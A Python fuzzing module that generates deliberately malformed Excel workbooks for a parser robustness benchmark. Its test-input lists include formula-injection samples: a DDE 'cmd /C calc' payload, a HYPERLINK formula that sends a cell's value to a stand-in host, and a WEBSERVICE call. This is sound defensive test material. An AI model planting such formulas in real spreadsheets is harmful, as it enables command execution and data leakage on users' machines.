"""Workbooks broken the ways people and programs break them, for benchmarks/robustness.py.

A mutation works on the parts of the reference workbook's zip — its sheets parsed as XML — so
that it can write what a spreadsheet program would refuse to (a number of 1e999999999, a raw
control character, two sheets of one name, a cell reference out of order) and costs a few
milliseconds instead of an openpyxl load and save. Each workbook is drawn from its own
``random.Random(f"{seed}:{index}")``: workbook 4711 of seed 1 is the same on every machine, and
``robustness.py --case 4711`` rebuilds it alone.
"""

from __future__ import annotations

import copy
import io
import random
import re
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from datetime import date, timedelta
from xml.etree import ElementTree

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
RELATIONSHIPS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
TYPES = "http://schemas.openxmlformats.org/package/2006/content-types"
WORKSHEET_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"
SHARED_STRINGS_TYPE = (
    "application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"
)
ElementTree.register_namespace("r", RELATIONSHIPS)
M = f"{{{MAIN}}}"
R_ID = f"{{{RELATIONSHIPS}}}id"
CELL_REFERENCE = re.compile(r"([A-Z]+)(\d+)")

HUGE_NUMBERS = (
    "1e999999999",
    "-1e999999999",
    "1e308",
    "-1.7976931348623157e308",
    "4.9e-324",
    "123456789012345678901234567890",
    "99999999999999.99",
    "0.1234567890123456789",
    "1e-7",
    "-0",
    "NaN",
    "INF",
    "-INF",
)
FORMULAS = (  # formula, cached value (None: none), type of the cached value
    ('HYPERLINK("http://example.invalid/?q="&A2,"点击查看")', "点击查看", "str"),
    ("1/0", "#DIV/0!", "e"),
    ("SUM(A1:A3)", "0", None),
    ("NOW()", "45291.5", None),
    ("cmd|' /C calc'!A0", "0", None),
    ('WEBSERVICE("http://example.invalid/")', None, None),
    ('INDIRECT("A"&1)', "项目编码", "str"),
)
TEXTS = (
    "=1+1",
    "+86-20-12345678",
    "-1",
    "@SUM(1)",
    "\t=1",
    '=HYPERLINK("http://example.invalid","x")',
    "#N/A",
    "一百万",
    "1,000",
    "１２３．４５",
    "12%",
    "￥100",
    " 100 ",
    "是的",
    "定性",
    "≥",
    "",
    "   ",
    "‮عربي",
    "\ufeffBOM",
    "\u200b",
    "𠜎𠜱🧾",
    "a\r\nb",
    "_x0000_",
    "_x0007_响铃",
    "_x001B_[31m红",
    "a_x000D_b",
    "_xD800_",
)
RAW_CONTROLS = ("\x00", "\x01", "\x07", "\x0b", "\x1b", "\ufffe")
DATE_NUMBERS = ("-1", "0", "1", "60", "2958465", "2958466", "1e10", "45043.75", "45043")
DATE_TEXTS = (
    "2023-02-30",
    "2023-13-01",
    "9999-12-31",
    "0001-01-01",
    "10000-01-01",
    "2023/5/6",
    "2023年5月6日",
    "2023-05-06T25:61:00",
    "昨天",
)
ISO_DATES = ("2023-05-06T00:00:00", "99999-01-01T00:00:00", "2023-02-30", "T12:00:00")
LONG_LENGTHS = (65, 201, 301, 501, 2_001, 20_001, 32_767, 32_768, 40_000)


@dataclass
class Book:
    """The parts of one workbook, with the workbook index and the sheets parsed when touched."""

    parts: dict[str, bytes]
    workbook: ElementTree.Element = field(init=False)
    relationships: ElementTree.Element = field(init=False)
    content_types: ElementTree.Element = field(init=False)
    sheets: dict[str, ElementTree.Element] = field(default_factory=dict)
    raw: dict[str, bytes] = field(default_factory=dict)  # placeholder → bytes no XML tool writes
    compression: int = zipfile.ZIP_DEFLATED

    def __post_init__(self) -> None:
        self.workbook = ElementTree.fromstring(self.parts["xl/workbook.xml"])
        self.relationships = ElementTree.fromstring(self.parts["xl/_rels/workbook.xml.rels"])
        self.content_types = ElementTree.fromstring(self.parts["[Content_Types].xml"])

    def entries(self) -> ElementTree.Element:
        found = self.workbook.find(f"{M}sheets")
        assert found is not None
        return found

    def part_of(self, entry: ElementTree.Element) -> str | None:
        for relationship in self.relationships:
            if relationship.get("Id") == entry.get(R_ID):
                return "xl/" + str(relationship.get("Target")).removeprefix("/xl/")
        return None

    def sheet(self, part: str) -> ElementTree.Element | None:
        """The parsed sheet (None when the part is gone or no longer XML)."""
        if part not in self.sheets:
            try:
                self.sheets[part] = ElementTree.fromstring(self.parts[part])
            except (KeyError, ElementTree.ParseError):
                return None
        return self.sheets[part]

    def sheet_roots(self) -> Iterator[tuple[str, ElementTree.Element]]:
        """The sheets still there and still XML, in the workbook's order, by name."""
        for entry in self.entries():
            part = self.part_of(entry)
            root = self.sheet(part) if part is not None else None
            if root is not None:
                yield str(entry.get("name")), root

    def link(self, part: str, identifier: str, kind: str, content_type: str) -> None:
        """Relate ``part`` to the workbook and give it its content type."""
        ElementTree.SubElement(
            self.relationships,
            f"{{{PACKAGE}}}Relationship",
            {"Id": identifier, "Type": f"{RELATIONSHIPS}/{kind}", "Target": part[3:]},
        )
        ElementTree.SubElement(
            self.content_types,
            f"{{{TYPES}}}Override",
            {"PartName": f"/{part}", "ContentType": content_type},
        )

    def shuffle_sheets(self, rng: random.Random) -> None:
        entries = self.entries()
        shuffled = list(entries)
        rng.shuffle(shuffled)
        for child in list(entries):
            entries.remove(child)
        entries.extend(shuffled)

    def to_bytes(self) -> bytes:
        self.parts["xl/workbook.xml"] = _xml(self.workbook, MAIN)
        self.parts["xl/_rels/workbook.xml.rels"] = _xml(self.relationships, PACKAGE)
        self.parts["[Content_Types].xml"] = _xml(self.content_types, TYPES)
        for part, root in self.sheets.items():
            data = _xml(root, MAIN)
            for placeholder, raw in self.raw.items():
                data = data.replace(placeholder.encode(), raw)
            self.parts[part] = data
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w", self.compression, compresslevel=1) as archive:
            for name, data in self.parts.items():
                archive.writestr(name, data)
        return buffer.getvalue()


def _xml(root: ElementTree.Element, namespace: str) -> bytes:
    """The element as its part's bytes, its own namespace the default one (as Excel writes it:
    some readers look for ``<Relationship>``, not ``<ns0:Relationship>``)."""
    ElementTree.register_namespace("", namespace)  # default_namespace= refuses plain attributes
    return ElementTree.tostring(root, encoding="utf-8")


def column_letters(number: int) -> str:
    letters = ""
    while number:
        number, rest = divmod(number - 1, 26)
        letters = chr(65 + rest) + letters
    return letters


def column_number(letters: str) -> int:
    number = 0
    for letter in letters:
        number = number * 26 + ord(letter) - 64
    return number


# Choosing where to break.


def some_sheet(book: Book, rng: random.Random) -> tuple[str, ElementTree.Element] | None:
    """A sheet that is still there, mostly a data sheet (the 项目 and 绩效指标 sheets most)."""
    choices = [
        (name, root)
        for name, root in book.sheet_roots()
        for _ in range(0 if name == "说明" else 4 if name in ("项目", "绩效指标") else 1)
    ]
    return rng.choice(choices) if choices else None


def some_rows(
    book: Book, rng: random.Random
) -> tuple[str, ElementTree.Element, list[ElementTree.Element]] | None:
    """A sheet as with ``some_sheet``: its name, its ``sheetData`` and the rows in it."""
    chosen = some_sheet(book, rng)
    if chosen is None:
        return None
    name, root = chosen
    return name, *rows_of(root)


def rows_of(root: ElementTree.Element) -> tuple[ElementTree.Element, list[ElementTree.Element]]:
    data = root.find(f"{M}sheetData")
    if data is None:
        data = ElementTree.SubElement(root, f"{M}sheetData")
    return data, list(data.findall(f"{M}row"))


def some_cell(book: Book, rng: random.Random) -> tuple[str, ElementTree.Element] | None:
    """An existing or a new cell of a data row (the header row now and then), as ``项目!H5``."""
    chosen = some_rows(book, rng)
    if chosen is None or not chosen[2]:
        return None
    name, _data, rows = chosen
    row = rows[0] if len(rows) == 1 or rng.random() < 0.08 else rng.choice(rows[1:])
    number = row.get("r") or "1"
    cells = row.findall(f"{M}c")
    if cells and rng.random() < 0.9:
        cell = rng.choice(cells)
    else:
        letters = column_letters(len(cells) + rng.randint(1, 3))
        cell = ElementTree.SubElement(row, f"{M}c", {"r": f"{letters}{number}"})
    return f"{name}!{cell.get('r')}", cell


def date_cell(book: Book, rng: random.Random) -> tuple[str, ElementTree.Element] | None:
    """A cell the workbook formats as a date, if the sheets still hold one."""
    found = [
        (name, cell)
        for name, root in book.sheet_roots()
        if name in ("采购合同", "信息公开", "事前评估")
        for cell in root.iter(f"{M}c")
        if cell.get("s") == "9"
    ]
    if not found:
        return None
    name, cell = rng.choice(found)
    return f"{name}!{cell.get('r')}", cell


# Writing one cell.


def clear(cell: ElementTree.Element, *, keep_style: bool = True) -> None:
    style = cell.get("s")
    reference = cell.get("r")
    cell.clear()
    if reference:
        cell.set("r", reference)
    if style and keep_style:
        cell.set("s", style)


def put_number(cell: ElementTree.Element, value: str) -> None:
    clear(cell)
    ElementTree.SubElement(cell, f"{M}v").text = value


def put_text(cell: ElementTree.Element, value: str) -> None:
    clear(cell, keep_style=False)
    cell.set("t", "inlineStr")
    inline = ElementTree.SubElement(cell, f"{M}is")
    ElementTree.SubElement(inline, f"{M}t").text = value


def put_typed(cell: ElementTree.Element, kind: str, value: str) -> None:
    clear(cell)
    cell.set("t", kind)
    ElementTree.SubElement(cell, f"{M}v").text = value


def put_formula(
    cell: ElementTree.Element, formula: str, cached: str | None, kind: str | None
) -> None:
    clear(cell)
    if kind:
        cell.set("t", kind)
    ElementTree.SubElement(cell, f"{M}f").text = formula
    if cached is not None:
        ElementTree.SubElement(cell, f"{M}v").text = cached


# The mutations: each changes ``book`` and says what it did.

Mutation = Callable[[Book, random.Random], str]


def _at_cell(write: Callable[[ElementTree.Element, random.Random], str]) -> Mutation:
    def mutate(book: Book, rng: random.Random) -> str:
        chosen = some_cell(book, rng)
        if chosen is None:
            return "nothing to change"
        where, cell = chosen
        return f"{where} {write(cell, rng)}"

    return mutate


def _huge_number(cell: ElementTree.Element, rng: random.Random) -> str:
    value = rng.choice(HUGE_NUMBERS)
    (put_number if rng.random() < 0.6 else put_text)(cell, value)
    return value


def _long_text(cell: ElementTree.Element, rng: random.Random) -> str:
    length = rng.choice(LONG_LENGTHS)
    text = rng.choice(("长", "x", "9", "a b ")) * length
    put_text(cell, text[:length])
    return f"{length} characters"


def _formula(cell: ElementTree.Element, rng: random.Random) -> str:
    formula, cached, kind = rng.choice(FORMULAS)
    put_formula(cell, formula, cached, kind)
    return f"={formula}"


def _odd_text(cell: ElementTree.Element, rng: random.Random) -> str:
    value = rng.choice(TEXTS)
    put_text(cell, value)
    return repr(value)


def _wrong_type(cell: ElementTree.Element, rng: random.Random) -> str:
    kind, value = rng.choice(
        (
            ("b", "1"),
            ("b", "0"),
            ("e", "#N/A"),
            ("e", "#REF!"),
            ("n", "一"),
            ("s", "0"),
            ("s", "99999"),
            ("str", "文字"),
            ("d", rng.choice(ISO_DATES)),
            ("x", "1"),
        )
    )
    put_typed(cell, kind, value)
    return f"t={kind} {value}"


def _number(cell: ElementTree.Element, rng: random.Random) -> str:
    value = rng.choice(("0", "1", "-1", "0.005", "2023", "1e6", "3.14159", "-12345.678"))
    put_number(cell, value)
    return value


def _blank(cell: ElementTree.Element, rng: random.Random) -> str:
    if rng.random() < 0.5:
        clear(cell)
        return "blank"
    put_text(cell, "")
    return "empty text"


def _control_character(book: Book, rng: random.Random) -> str:
    chosen = some_cell(book, rng)
    if chosen is None:
        return "nothing to change"
    where, cell = chosen
    character = rng.choice(RAW_CONTROLS)
    placeholder = f"\ue000{len(book.raw)}\ue000"
    book.raw[placeholder] = character.encode("utf-8", "surrogatepass")
    if rng.random() < 0.3:  # bytes that are no UTF-8 at all
        book.raw[placeholder] = rng.choice((b"\xff", b"\xed\xa0\x80", b"\xc3"))
    put_text(cell, f"前{placeholder}后")
    return f"{where} raw {book.raw[placeholder]!r}"


def _date(book: Book, rng: random.Random) -> str:
    chosen = date_cell(book, rng) if rng.random() < 0.8 else some_cell(book, rng)
    if chosen is None:
        return "no date cell"
    where, cell = chosen
    if rng.random() < 0.5:
        value = rng.choice(DATE_NUMBERS)
        put_number(cell, value)
    elif rng.random() < 0.5:
        value = rng.choice(ISO_DATES)
        put_typed(cell, "d", value)
    else:
        value = rng.choice(DATE_TEXTS)
        put_text(cell, value)
    return f"{where} {value}"


def _renumber(data: ElementTree.Element) -> None:
    """Number the rows 1, 2, … in order, and their cells with them."""
    for number, row in enumerate(data.findall(f"{M}row"), start=1):
        row.set("r", str(number))
        for cell in row.findall(f"{M}c"):
            found = CELL_REFERENCE.fullmatch(cell.get("r") or "")
            if found:
                cell.set("r", f"{found.group(1)}{number}")


def _row_mutation(book: Book, rng: random.Random) -> str:
    chosen = some_rows(book, rng)
    if chosen is None:
        return "no sheet"
    name, data, rows = chosen
    if not rows:
        return f"{name} has no rows"
    index = rng.randrange(len(rows))
    row = rows[index]
    action = rng.choice(
        ("duplicate", "duplicate", "delete", "delete", "blank", "insert", "swap", "disorder")
    )
    if action == "duplicate":
        data.insert(index + 1, copy.deepcopy(row))
        _renumber(data)
    elif action == "delete":
        data.remove(row)
        if rng.random() < 0.7:
            _renumber(data)
    elif action == "blank":
        for cell in row.findall(f"{M}c"):
            row.remove(cell)
    elif action == "insert":
        data.insert(index, ElementTree.Element(f"{M}row"))
        _renumber(data)
    elif action == "swap" and len(rows) > 1:
        other = rng.randrange(len(rows))
        data[index], data[other] = rows[other], rows[index]
        _renumber(data)
    elif action == "disorder" and len(rows) > 1:  # rows written out of order, numbers kept
        data.remove(row)
        data.insert(rng.randrange(len(rows)), row)
    return f"{name} row {index + 1} {action}"


def _column_mutation(book: Book, rng: random.Random) -> str:
    chosen = some_rows(book, rng)
    if chosen is None:
        return "no sheet"
    name, _data, rows = chosen
    header = rows[0].findall(f"{M}c") if rows else []
    if not header:
        return f"{name} has no header"
    letters = CELL_REFERENCE.sub(r"\1", str(rng.choice(header).get("r")))
    action = rng.choice(("delete", "rename", "copy header", "blank header", "extra"))
    if action == "delete":
        for row in rows:
            for cell in row.findall(f"{M}c"):
                if CELL_REFERENCE.sub(r"\1", str(cell.get("r"))) == letters:
                    row.remove(cell)
    elif action in ("rename", "copy header", "blank header"):
        target = next(c for c in header if CELL_REFERENCE.sub(r"\1", str(c.get("r"))) == letters)
        texts = ["".join(c.itertext()) for c in header]
        new = {"rename": "备注（新增）", "copy header": rng.choice(texts), "blank header": ""}
        put_text(target, new[action])
    else:
        extra = column_letters(len(header) + 1)
        for row in rows:
            cell = ElementTree.SubElement(row, f"{M}c", {"r": f"{extra}{row.get('r')}"})
            put_text(cell, "随手加的一列" if row is rows[0] else "备注")
    return f"{name} column {letters} {action}"


def _sheet_mutation(book: Book, rng: random.Random) -> str:
    entries = book.entries()
    entry = rng.choice(list(entries))
    name = str(entry.get("name"))
    part = book.part_of(entry)
    names = [str(e.get("name")) for e in entries]
    action = rng.choice(
        (
            "delete",
            "delete",
            "rename",
            "duplicate",
            "reorder",
            "hide",
            "add",
            "lose part",
            "garbage part",
            "empty",
            "far cell",
            "many rows",
        )
    )
    if action == "delete" and len(entries) > 1:
        entries.remove(entry)
    elif action == "rename":
        new = rng.choice(
            (f"{name} ", f"{name}1", f"{name}（旧）", rng.choice(names), "", "项目/指标", "长" * 40)
        )
        entry.set("name", new)
        return f"{name} renamed {new!r}"
    elif action == "duplicate" and part is not None:
        _duplicate_sheet(book, part, rng.choice((name, f"{name} (2)")))
    elif action == "reorder":
        book.shuffle_sheets(rng)
    elif action == "hide":
        entry.set("state", rng.choice(("hidden", "veryHidden")))
    elif action == "add":
        _add_sheet(book, rng.choice(("附表", "项目 ", "Sheet1")))
    elif action == "lose part" and part is not None:
        book.parts.pop(part, None)
        book.sheets.pop(part, None)
    elif action == "garbage part" and part is not None:
        book.sheets.pop(part, None)
        original = book.parts.get(part, b"")
        book.parts[part] = rng.choice(
            (
                b"",
                b"not xml",
                original[: rng.randrange(1, max(2, len(original)))],
                rng.randbytes(64),
            )
        )
    elif action == "empty" and part is not None and (root := book.sheet(part)) is not None:
        data, _rows = rows_of(root)
        for row in list(data):
            data.remove(row)
    elif action == "far cell" and part is not None and (root := book.sheet(part)) is not None:
        data, _rows = rows_of(root)
        far = rng.choice(("XFD1048576", "A10001", "CW2", "A1048577", "ZZZZ1"))
        number = CELL_REFERENCE.sub(r"\2", far) if CELL_REFERENCE.fullmatch(far) else "1"
        row = ElementTree.SubElement(data, f"{M}row", {"r": number})
        put_number(ElementTree.SubElement(row, f"{M}c", {"r": far}), "1")
        return f"{name} cell at {far}"
    elif action == "many rows" and part is not None and (root := book.sheet(part)) is not None:
        data, rows = rows_of(root)
        if rows:
            count = rng.choice((200, 10_001))
            data.extend(copy.deepcopy(rows[-1]) for _ in range(count))
            _renumber(data)
            return f"{name} +{count} rows"
    return f"{name} {action}"


def _duplicate_sheet(book: Book, part: str, name: str) -> None:
    number = len(book.entries()) + 1
    while f"xl/worksheets/sheet{number}.xml" in book.parts:
        number += 1
    new_part = f"xl/worksheets/sheet{number}.xml"
    root = book.sheet(part)
    if root is not None:
        book.sheets[new_part] = copy.deepcopy(root)
    book.parts[new_part] = book.parts.get(part, b"")
    rels = part.replace("worksheets/", "worksheets/_rels/") + ".rels"
    if rels in book.parts:
        book.parts[new_part.replace("worksheets/", "worksheets/_rels/") + ".rels"] = book.parts[
            rels
        ]
    _register(book, new_part, name)


def _add_sheet(book: Book, name: str) -> None:
    number = len(book.parts)
    part = f"xl/worksheets/added{number}.xml"
    book.parts[part] = (
        f'<worksheet xmlns="{MAIN}"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>'
        "随手写的</t></is></c></row></sheetData></worksheet>"
    ).encode()
    _register(book, part, name)


def _register(book: Book, part: str, name: str) -> None:
    """List ``part`` in the workbook as sheet ``name``: relationship, content type, entry."""
    identifier = f"rIdMutated{len(book.relationships)}"
    book.link(part, identifier, "worksheet", WORKSHEET_TYPE)
    sheet_id = str(1000 + len(book.entries()))
    ElementTree.SubElement(
        book.entries(), f"{M}sheet", {"name": name, "sheetId": sheet_id, R_ID: identifier}
    )


# Whole-file damage, after the zip is written.


def damage(data: bytes, rng: random.Random) -> tuple[bytes, str]:
    action = rng.choice(
        ("truncate", "flip", "flip", "junk before", "junk after", "random", "empty", "no index")
    )
    if action == "truncate":
        cut = rng.randrange(len(data))
        return data[:cut], f"truncated at {cut} of {len(data)} bytes"
    if action == "flip":
        damaged = bytearray(data)
        count = rng.randint(1, 20)
        for _ in range(count):
            damaged[rng.randrange(len(damaged))] = rng.randrange(256)
        return bytes(damaged), f"{count} random bytes changed"
    if action == "junk before":
        return rng.randbytes(rng.randint(1, 4096)) + data, action
    if action == "junk after":
        return data + rng.randbytes(rng.randint(1, 4096)), action
    if action == "random":
        return rng.randbytes(rng.randint(1, 70_000)), action
    if action == "empty":
        return b"", action
    with zipfile.ZipFile(io.BytesIO(data)) as archive:  # a zip without the parts that index it
        names = [
            n for n in archive.namelist() if n not in ("[Content_Types].xml", "xl/workbook.xml")
        ]
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w") as stripped:
            for name in names:
                stripped.writestr(name, archive.read(name))
    return buffer.getvalue(), action


# Neutral changes: the same data written another way, as other programs write it. A workbook
# with only these must read as the reference data set (an unknown sheet may be warned about).


def _sheet_order(book: Book, rng: random.Random) -> str:
    book.shuffle_sheets(rng)
    return "sheets in another order"


def _hidden_sheet(book: Book, rng: random.Random) -> str:
    entry = rng.choice(list(book.entries()))
    entry.set("state", "hidden")
    return f"{entry.get('name')} hidden"


def _unknown_sheet(book: Book, rng: random.Random) -> str:
    _add_sheet(book, rng.choice(("附表", "Sheet1", "草稿")))
    return "an extra sheet"


def _spaced_name(book: Book, rng: random.Random) -> str:
    entry = rng.choice(list(book.entries()))
    entry.set("name", f" {entry.get('name')} ")
    return f"{entry.get('name')!r}"


def _numbers_spelled(book: Book, rng: random.Random) -> str:
    """Numbers written as text, as Excel converts them, or in another notation (a date cell
    stays a date)."""
    chosen = some_sheet(book, rng)
    if chosen is None:
        return "no sheet"
    name, root = chosen
    as_text = rng.random() < 0.5
    changed = 0
    for cell in root.iter(f"{M}c"):
        value = cell.find(f"{M}v")
        if cell.get("t") != "n" or cell.get("s") == "9" or value is None or not value.text:
            continue
        # As text, the digits Excel shows (15 significant ones: openpyxl may have written
        # 82826099.18 as 82826099.18000001).
        text = f"{float(value.text):.15g}" if as_text else f"{float(value.text):E}"
        if not as_text and float(text) != float(value.text):
            continue  # the notation would round it
        if as_text:
            put_text(cell, text)
        else:
            value.text = text
        changed += 1
    return f"{name}: {changed} numbers {'as text' if as_text else 'in E notation'}"


def _dates_as_text(book: Book, _rng: random.Random) -> str:
    changed = 0
    for _name, root in book.sheet_roots():
        for cell in root.iter(f"{M}c"):
            value = cell.find(f"{M}v")
            if cell.get("s") == "9" and value is not None and value.text:
                day = date(1899, 12, 30) + timedelta(days=int(float(value.text)))
                put_text(cell, day.isoformat())
                changed += 1
    return f"{changed} dates as text"


def _shared_strings(book: Book, _rng: random.Random) -> str:
    """Every text in the shared-strings table, as Excel writes it (jixiao writes inline)."""
    table: dict[str, int] = {}
    for _name, root in book.sheet_roots():
        for cell in root.iter(f"{M}c"):
            if cell.get("t") == "inlineStr":
                text = "".join(cell.itertext())
                clear(cell)
                cell.set("t", "s")
                index = table.setdefault(text, len(table))
                ElementTree.SubElement(cell, f"{M}v").text = str(index)
    strings = ElementTree.Element(f"{M}sst", {"count": str(len(table))})
    for text in table:
        ElementTree.SubElement(ElementTree.SubElement(strings, f"{M}si"), f"{M}t").text = text
    book.parts["xl/sharedStrings.xml"] = _xml(strings, MAIN)
    book.link("xl/sharedStrings.xml", "rIdStrings", "sharedStrings", SHARED_STRINGS_TYPE)
    return f"{len(table)} shared strings"


def _trailing_rows(book: Book, rng: random.Random) -> str:
    """Empty rows after the data: one without cells, one of formatted empty cells."""
    chosen = some_rows(book, rng)
    if chosen is None:
        return "no sheet"
    name, data, rows = chosen
    last = int(rows[-1].get("r") or len(rows)) if rows else 0
    ElementTree.SubElement(data, f"{M}row", {"r": str(last + 1)})
    row = ElementTree.SubElement(data, f"{M}row", {"r": str(last + 3)})
    for letters in ("A", "B", "C"):
        ElementTree.SubElement(row, f"{M}c", {"r": f"{letters}{last + 3}", "s": "2"})
    return f"{name}: empty rows after row {last}"


def _stored(book: Book, _rng: random.Random) -> str:
    book.compression = zipfile.ZIP_STORED
    return "zip without compression"


NEUTRAL: dict[str, Mutation] = {
    "sheet order": _sheet_order,
    "hidden sheet": _hidden_sheet,
    "unknown sheet": _unknown_sheet,
    "spaces around a sheet name": _spaced_name,
    "numbers spelled": _numbers_spelled,
    "dates as text": _dates_as_text,
    "shared strings": _shared_strings,
    "empty rows at the end": _trailing_rows,
    "uncompressed zip": _stored,
}
NEUTRAL_SHARE = 0.1  # of workbooks changed only in ways that keep the data
MUTATIONS: dict[str, tuple[int, Mutation]] = {  # kind: (weight, mutation)
    "huge number": (10, _at_cell(_huge_number)),
    "long text": (8, _at_cell(_long_text)),
    "formula": (8, _at_cell(_formula)),
    "odd text": (12, _at_cell(_odd_text)),
    "wrong type": (10, _at_cell(_wrong_type)),
    "number": (6, _at_cell(_number)),
    "blank cell": (8, _at_cell(_blank)),
    "control character": (5, _control_character),
    "date": (8, _date),
    "row": (12, _row_mutation),
    "column": (5, _column_mutation),
    "sheet": (8, _sheet_mutation),
}
DAMAGE_SHARE = 0.08  # of workbooks also damaged as a file after the zip is written


@dataclass(frozen=True)
class Mutated:
    data: bytes
    kinds: tuple[str, ...]
    steps: tuple[str, ...]
    neutral: bool  # only neutral changes: must read as the reference data set


def unpack(workbook: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(workbook)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def mutated(reference: dict[str, bytes], seed: int, index: int) -> Mutated:
    """Workbook ``index`` of ``seed``: one to five mutations of the reference workbook's parts,
    and now and then damage to the file itself."""
    rng = random.Random(f"{seed}:{index}")
    book = Book(dict(reference))
    kinds: list[str] = []
    steps: list[str] = []
    if rng.random() < NEUTRAL_SHARE:
        for kind in rng.sample(sorted(NEUTRAL), rng.randint(1, 3)):
            kinds.append(kind)
            steps.append(f"{kind}: {NEUTRAL[kind](book, rng)}")
        return Mutated(book.to_bytes(), tuple(kinds), tuple(steps), neutral=True)
    names = list(MUTATIONS)
    weights = [MUTATIONS[name][0] for name in names]
    for kind in rng.choices(names, weights, k=min(5, 1 + int(rng.expovariate(0.8)))):
        kinds.append(kind)
        steps.append(f"{kind}: {MUTATIONS[kind][1](book, rng)}")
    data = book.to_bytes()
    if rng.random() < DAMAGE_SHARE:
        data, step = damage(data, rng)
        kinds.append("damaged file")
        steps.append(f"damaged file: {step}")
    return Mutated(data, tuple(kinds), tuple(steps), neutral=False)
